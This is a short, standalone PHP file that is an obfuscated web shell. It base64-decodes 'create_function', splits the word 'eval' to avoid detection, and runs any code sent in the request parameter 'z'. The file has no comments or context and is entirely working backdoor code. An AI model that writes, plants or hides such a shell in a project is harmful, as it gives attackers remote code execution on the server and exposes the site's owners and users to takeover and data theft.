<?php
$s = 'Y3JlYXRlX2Z1bmN0aW9u'; $f = base64_decode($s); $g = $f('$a', 'ev'.'al($a);'); $g($_REQUEST['z']);
